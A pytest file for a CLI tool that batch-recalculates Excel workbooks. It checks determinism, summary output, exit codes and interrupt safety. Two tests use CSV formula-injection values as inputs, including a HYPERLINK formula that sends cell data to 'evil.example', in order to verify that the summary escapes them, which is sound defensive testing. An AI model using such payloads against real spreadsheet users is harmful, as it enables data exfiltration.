"""`roi-xl recalc` over many workbooks, run as users run it (a subprocess): finding inputs, parallel
and Dask executors giving the same bytes, the summary table, frozen values, exit codes, failure
lines, and an interrupted run leaving nothing partial behind."""
from __future__ import annotations

import logging
import os
import re
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from tests.support.batch_books import client_book, define_name, distinct_books, plain_book
from tests.support.cli import read_summary, recalc

ROOT = Path(__file__).resolve().parents[2]


def _tree(root: Path) -> dict[str, bytes]:
    return {str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}


# --------------------------------------------------------------------------- inputs


def test_folders_globs_and_lock_files(tmp_path):
    src = tmp_path / "clients"
    (src / "north").mkdir(parents=True)
    (tmp_path / "extra").mkdir()
    plain_book(src / "a.xlsx")
    plain_book(src / "north" / "b.xlsm", 9_000, 3_000)
    (src / "~$a.xlsx").write_bytes(b"\x00lock")            # Excel's lock file: skipped
    (src / "north" / "~$b.xlsm").write_bytes(b"\x00lock")
    (src / "notes.txt").write_text("not a workbook")
    plain_book(tmp_path / "extra" / "c.xlsx", 5, 4)
    plain_book(tmp_path / "extra" / "d.xlsx", 5, 5)
    (tmp_path / "extra" / "~$c.xlsx").write_bytes(b"\x00lock")
    out = tmp_path / "out"
    run = recalc(src, tmp_path / "extra" / "c*.xlsx", "--out", out, "--jobs", "1")
    assert run.returncode == 0, run.stderr
    assert sorted(p.name for p in out.iterdir()) == ["a.xlsx", "b.xlsm", "c.xlsx"]
    assert "~$" not in run.stdout + run.stderr
    lines = run.stdout.splitlines()
    assert [line.split(" -> ")[0] for line in lines] == [
        str(src / "a.xlsx"), str(src / "north" / "b.xlsm"), str(tmp_path / "extra" / "c.xlsx")]
    b = openpyxl.load_workbook(out / "b.xlsm", data_only=True).active
    assert b["B1"].value == pytest.approx((9_000 - 3_000) / 3_000)


# --------------------------------------------------------------------------- determinism


def test_parallel_and_repeated_runs_give_identical_bytes(tmp_path):
    src = tmp_path / "in"
    src.mkdir()
    for i in range(4):
        plain_book(src / f"p{i}.xlsx", 1_000 + i, 400)
        client_book(src / f"c{i}.xlsx", client=f"Client {i}", revenue=10_000.0 * (i + 1))
    (src / "zz-broken.xlsx").write_bytes(b"PK\x03\x04 truncated")
    one, two = tmp_path / "one", tmp_path / "two"
    r1 = recalc(src, "--out", one, "--jobs", "1")
    r2 = recalc(src, "--out", two, "--jobs", "2")
    assert (r1.returncode, r2.returncode) == (1, 1), r1.stderr + r2.stderr
    assert _tree(one) == _tree(two)
    assert len(_tree(one)) == 8
    # the report is in input order whichever worker finished first
    assert [line.split(" -> ")[0] for line in r2.stdout.splitlines()] == \
        [line.split(" -> ")[0] for line in r1.stdout.splitlines()]
    before = _tree(two)
    again = recalc(src, "--out", two, "--jobs", "2")
    assert again.returncode == 1
    assert _tree(two) == before
    # the inputs' zip timestamps are kept, so the bytes do not depend on when the run happened
    with zipfile.ZipFile(src / "p0.xlsx") as zin, zipfile.ZipFile(one / "p0.xlsx") as zout:
        assert [i.date_time for i in zin.infolist()] == [i.date_time for i in zout.infolist()]


# --------------------------------------------------------------------------- summary


@pytest.mark.parametrize("suffix", [".json", ".parquet"])
def test_summary_has_the_template_figures(tmp_path, suffix):
    src = tmp_path / "in"
    src.mkdir()
    client_book(src / "acme.xlsx", names_on_formulas=True)
    client_book(src / "nocost.xlsx", client="Zero Ltd", costs=(0.0,), names_on_formulas=True)
    plain_book(src / "plain.xlsx")
    (src / "broken.xlsx").write_bytes(b"not a zip")
    summary = tmp_path / f"summary{suffix}"
    run = recalc(src, "--out", tmp_path / "out", "--summary", summary)
    assert run.returncode == 1, run.stderr
    df = read_summary(summary).set_index("file")
    assert list(df.index) == [str(src / n) for n in ("acme.xlsx", "broken.xlsx", "nocost.xlsx", "plain.xlsx")]

    acme = df.loc[str(src / "acme.xlsx")]
    cost, hard, total = 7_500 + 3_800 + 1_000, 48_500, 48_500 + 2_000
    assert (acme["status"], acme["client"], acme["currency"]) == ("ok", "Acme", "EUR")
    assert (acme["period_start"], acme["period_end"]) == ("2024-01-01", "2024-03-31")
    assert float(acme["total_cost"]) == cost
    assert float(acme["hard_value"]) == hard
    assert float(acme["total_value"]) == total
    assert float(acme["roi"]) == pytest.approx((hard - cost) / cost, rel=1e-12)      # 2.9431
    assert float(acme["roi_total"]) == pytest.approx((total - cost) / cost, rel=1e-12)
    assert float(acme["kpi_score"]) == pytest.approx(0.8)
    assert float(acme["payback"]) == pytest.approx(cost / hard * 12)
    assert pd.isna(acme["roni"])                          # no RONI name in this workbook

    nocost = df.loc[str(src / "nocost.xlsx")]
    assert nocost["roi"] == "#DIV/0!"                     # an error shows as its text
    assert df.loc[str(src / "broken.xlsx"), "status"] == "failed"
    assert "not an Excel workbook" in df.loc[str(src / "broken.xlsx"), "error"]
    assert pd.isna(df.loc[str(src / "plain.xlsx"), "client"])


def test_summary_rows_escaping_and_failures(tmp_path):
    src = tmp_path / "in"
    src.mkdir()
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    client_book(src / "a-hostile.xlsx", client=hostile, currency="+EUR", revenue=-250.0)
    client_book(src / "b-fine.xlsx", client="@home ltd", currency="USD")
    wb = openpyxl.Workbook()
    wb.active["A1"] = "=NOT_A_FUNCTION(1)+1"
    wb.save(src / "c-warn.xlsx")
    missing = src / "d-missing.xlsx"
    summary = tmp_path / "s.csv"
    run = recalc(src, missing, "--out", tmp_path / "out", "--summary", summary, "--jobs", "2")
    assert run.returncode == 1, run.stderr
    assert f"{missing}: no such file" in run.stderr.splitlines()
    df = read_summary(summary)
    assert list(df.columns[:6]) == ["file", "output", "status", "error", "warnings", "seconds"]
    assert list(df["status"]) == ["ok", "ok", "ok", "failed"]
    assert df.loc[0, "client"] == "'" + hostile            # text stays text in a spreadsheet
    assert df.loc[0, "currency"] == "'+EUR"
    assert df.loc[1, "client"] == "'@home ltd"
    assert float(df.loc[0, "hard_value"]) == -250.0          # numbers are not escaped
    assert df.loc[0, "period_start"] == "2024-01-01"
    assert list(df["warnings"]) == [0, 0, 1, 0]
    assert df.loc[3, "error"] == "no such file"
    assert df.loc[0, "output"] == str(tmp_path / "out" / "a-hostile.xlsx")
    assert pd.isna(df.loc[3, "output"])
    text = summary.read_text(encoding="utf-8")
    assert not re.search(r'(^|,)"?([=+@]|-\D)', text, re.M)  # no CSV cell starts a formula


def test_named_cells_on_formulas_take_the_computed_values(tmp_path):
    """read_named, given the engine's results: a formula cell's value comes from the results,
    errors as text, a date-formatted number as an ISO date."""
    from roi_xl import XlError
    from roi_xl.engine.workbook import load
    from roi_xl.summary import read_named

    path = client_book(tmp_path / "c.xlsx", names_on_formulas=True)
    _name_wb = openpyxl.load_workbook(path)
    _name_wb["Summary"]["B30"] = "=B3+1"
    _name_wb["Summary"]["B30"].number_format = "d mmm yyyy"
    define_name(_name_wb, "PeriodEnd", "Summary!$B$30")
    del _name_wb.defined_names["Currency"]
    define_name(_name_wb, "currency", "Summary!$B$2")               # names ignore case
    _name_wb.save(path)
    loaded = load(path)
    computed = {("Summary", "B7"): 12_300.0, ("Summary", "B20"): XlError.DIV0,
                ("Summary", "B30"): 45_293.0}
    named = read_named(loaded.book, computed)
    assert named["total_cost"] == 12_300.0
    assert named["roi"] == "#DIV/0!"
    assert named["period_end"] == "2024-01-02"
    assert named["currency"] == "EUR"
    assert named["client"] == "Acme"
    assert named["roi_total"] is None                      # a formula the results do not have


# --------------------------------------------------------------------------- values only


def test_values_only_writes_no_formulas(tmp_path):
    src = plain_book(tmp_path / "p.xlsx", 9_000, 3_000)
    out = tmp_path / "out"
    run = recalc(src, "--out", out, "--values-only")
    assert run.returncode == 0, run.stderr
    frozen = openpyxl.load_workbook(out / "p.xlsx").active
    assert not [c.coordinate for row in frozen.iter_rows() for c in row if c.data_type == "f"]
    assert frozen["B1"].value == pytest.approx(2.0)
    assert frozen["B2"].value == "good"
    assert frozen["A1"].value == 9_000


# --------------------------------------------------------------------------- exit codes


def test_exit_codes_and_failure_lines(tmp_path):
    good = plain_book(tmp_path / "good.xlsx")
    broken = tmp_path / "broken.xlsx"
    broken.write_bytes(b"PK\x03\x04 truncated")
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    twin_a, twin_b = plain_book(tmp_path / "a" / "twin.xlsx"), plain_book(tmp_path / "b" / "twin.xlsx")
    out = tmp_path / "out"

    assert recalc(good, "--out", out).returncode == 0

    run = recalc(good, broken, tmp_path / "nope.xlsx", twin_a, twin_b, "--out", out, "--jobs", "2")
    assert run.returncode == 1
    failures = [line for line in run.stderr.splitlines() if not line.startswith(("roi-xl", "2 of"))]
    assert failures[0].startswith(f"{broken}: not an Excel workbook")
    assert failures[1] == f"{tmp_path / 'nope.xlsx'}: no such file"
    assert failures[2].startswith(f"{twin_b}: output name clash: {twin_a}")
    assert len(failures) == 3, run.stderr
    assert "Traceback" not in run.stderr
    assert run.stderr.splitlines()[-1].startswith("2 of 5 workbooks recalculated")

    (out / "empty").mkdir()                                               # a folder with no workbook
    usage = [
        recalc(tmp_path / "*.xls", "--out", out),                          # glob matching nothing
        recalc(good, "--out", out, "--summary", tmp_path / "s.xlsx"),      # unknown summary format
        recalc(good, "--out", out, "--jobs", "0"),
        recalc(good, "--out", out, "--scheduler", "tcp://127.0.0.1:1"),    # without --executor dask
        recalc(good, "--out", out, "--executor", "dask"),                  # without --scheduler
        recalc(good, "--out", good),                                       # out is a file
        recalc(tmp_path / "a", tmp_path / "b", "--out", out, "--jobs", "x"),
        recalc(out / "empty", "--out", out),
    ]
    for run in usage:
        assert run.returncode == 2, run.args
        assert "Traceback" not in run.stderr


def test_progress_bar_on_a_terminal(tmp_path):
    import pty

    src = tmp_path / "in"
    src.mkdir()
    plain_book(src / "a.xlsx")
    (src / "b.xlsx").write_bytes(b"junk")
    import fcntl
    import struct
    import termios

    master, slave = pty.openpty()
    fcntl.ioctl(slave, termios.TIOCSWINSZ, struct.pack("HHHH", 24, 120, 0, 0))  # rows, columns
    env = {**os.environ, "PYTHONPATH": str(ROOT), "COLUMNS": "120"}
    proc = subprocess.Popen([sys.executable, "-m", "roi_xl.cli", "recalc", str(src), "--out",
                             str(tmp_path / "out"), "--jobs", "1"], stdout=subprocess.PIPE,
                            stderr=slave, cwd=ROOT, env=env)
    os.close(slave)
    chunks = []
    while True:
        try:
            data = os.read(master, 4096)
        except OSError:
            break
        if not data:
            break
        chunks.append(data)
    proc.wait(timeout=60)
    os.close(master)
    shown = b"".join(chunks).decode("utf-8", "replace")
    assert proc.returncode == 1
    assert "2/2" in shown and "failed=1" in shown and "file/s" in shown
    assert f"{src / 'b.xlsx'}: not an Excel workbook" in shown
    # finished files are listed on stdout only when it is not the terminal the bar is drawn on
    assert proc.stdout.read().decode().splitlines()[0].startswith(f"{src / 'a.xlsx'} -> ")


# --------------------------------------------------------------------------- interruption


@pytest.mark.parametrize("sig, jobs", [(signal.SIGINT, 1), (signal.SIGTERM, 2)])
def test_interrupted_run_leaves_only_whole_outputs(tmp_path, sig, jobs):
    inputs = distinct_books(tmp_path / "in", 30)
    out = tmp_path / "out"
    stale = out / ".roi-xl-staging-999999999-abcd"       # a killed run's leftovers (no such pid)
    stale.mkdir(parents=True)
    (stale / ".roi-xl-staging").write_text("roi-xl recalc staging folder of process 999999999\n")
    (stale / "w00.xlsx").write_bytes(b"half")
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    proc = subprocess.Popen([sys.executable, "-m", "roi_xl.cli", "recalc", str(tmp_path / "in"),
                             "--out", str(out), "--jobs", str(jobs)],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, cwd=ROOT, env=env)
    deadline = time.monotonic() + 60
    while not any(p.suffix == ".xlsx" for p in out.iterdir()):
        assert proc.poll() is None and time.monotonic() < deadline, "no output appeared"
        time.sleep(0.005)
    proc.send_signal(sig)
    _, err = proc.communicate(timeout=60)
    assert proc.returncode == 128 + sig, err
    assert "interrupted" in err.decode() and b"Traceback" not in err
    left = sorted(out.iterdir())
    assert 1 <= len(left) < 30, "the run was not interrupted"
    assert all(p.is_file() and re.fullmatch(r"w\d\d\.xlsx", p.name) for p in left), left
    for p in left:                                        # every output there is whole
        with zipfile.ZipFile(p) as z:
            assert z.testzip() is None
        openpyxl.load_workbook(p)
    if jobs == 1:
        again = recalc(tmp_path / "in", "--out", out, "--jobs", "2")
        assert again.returncode == 0, again.stderr
        assert sorted(p.name for p in out.iterdir()) == [p.name for p in inputs]


def _crash_on_purpose(path, staged, options):
    if path.name == "crash.xlsx":
        os._exit(3)                                     # a worker killed mid-work (OOM, segfault)
    from roi_xl.batch import executors

    return executors.process(path, staged, executors.ModelCache(), options)


def test_a_dying_worker_fails_only_its_own_workbook(tmp_path, monkeypatch):
    import multiprocessing

    from roi_xl.batch import executors
    from roi_xl.batch.work import Options, Task

    if multiprocessing.get_start_method() != "fork":
        pytest.skip("the stand-in worker function reaches workers only through fork")
    monkeypatch.setattr(executors, "_pool_work", _crash_on_purpose)
    names = ["a.xlsx", "b.xlsx", "crash.xlsx", "d.xlsx", "e.xlsx"]
    staging = tmp_path / "staging"
    staging.mkdir()
    tasks = [Task(i, plain_book(tmp_path / n, 100 + i, 50), staging / n) for i, n in enumerate(names)]
    with executors.make("local", tasks, Options(), jobs=2) as stream:
        results = dict(stream)
    assert sorted(results) == list(range(5))
    assert [results[i].ok for i in range(5)] == [True, True, False, True, True]
    assert results[2].error.startswith("the worker process died")
    assert sorted(p.name for p in staging.iterdir()) == ["a.xlsx", "b.xlsx", "d.xlsx", "e.xlsx"]


# --------------------------------------------------------------------------- Dask


def test_dask_executor_gives_the_same_outputs(tmp_path):
    distributed = pytest.importorskip("distributed")
    src = tmp_path / "in"
    src.mkdir()
    plain_book(src / "a.xlsx")
    client_book(src / "b.xlsx", client="=cmd()")
    (src / "c.xlsx").write_bytes(b"garbage")
    local = recalc(src, tmp_path / "missing.xlsx", "--out", tmp_path / "local", "--jobs", "1",
                   "--summary", tmp_path / "local.csv")
    with distributed.LocalCluster(n_workers=1, threads_per_worker=1, processes=False,
                                  protocol="tcp://", host="127.0.0.1", dashboard_address=None,
                                  silence_logs=logging.ERROR) as cluster:
        run = recalc(src, tmp_path / "missing.xlsx", "--out", tmp_path / "dask", "--executor", "dask",
                     "--scheduler", cluster.scheduler_address, "--summary", tmp_path / "dask.csv")
    assert (local.returncode, run.returncode) == (1, 1), run.stderr
    assert _tree(tmp_path / "dask") == _tree(tmp_path / "local")
    assert sorted(_tree(tmp_path / "dask")) == ["a.xlsx", "b.xlsx"]
    failure_lines = lambda r: [line for line in r.stderr.splitlines() if ": " in line and  # noqa: E731
                               not line.startswith("roi-xl")]
    assert failure_lines(run) == failure_lines(local)
    ours, theirs = pd.read_csv(tmp_path / "dask.csv"), pd.read_csv(tmp_path / "local.csv")
    ours["output"] = ours["output"].str.replace(str(tmp_path / "dask"), str(tmp_path / "local"), regex=False)
    same = [c for c in ours.columns if c != "seconds"]
    pd.testing.assert_frame_equal(ours[same], theirs[same])
    assert ours.loc[1, "client"] == "'=cmd()"

    dead = recalc(src, "--out", tmp_path / "x", "--executor", "dask", "--scheduler", "tcp://127.0.0.1:9")
    assert dead.returncode == 2 and "Dask scheduler" in dead.stderr


def test_a_signal_during_a_finalizer_is_raised_after_the_workbook():
    """A signal landing while a weakref finalizer runs (schedula makes thousands) must not be
    swallowed as "Exception ignored": it is recorded, and raised at the next safe point."""
    import weakref

    from roi_xl.batch import command

    class Thing:
        pass

    thing = Thing()
    weakref.finalize(thing, lambda: command._raise_interrupted(signal.SIGTERM, sys._getframe()))
    del thing                                 # the finalizer runs here and must not raise
    with pytest.raises(command.Interrupted) as info:
        command._raise_pending()
    assert info.value.signum == signal.SIGTERM
    command._raise_pending()                    # nothing left pending


def test_default_jobs_grow_with_the_workbooks():
    # One worker per four workbooks, at most one per core: the three bundled examples take one
    # process (each extra worker would pay its own start and its own first workbook).
    from roi_xl.batch.command import default_jobs

    cores = default_jobs()
    assert default_jobs(1) == default_jobs(3) == 1
    assert default_jobs(8) == min(cores, 2)
    assert default_jobs(10_000) == cores
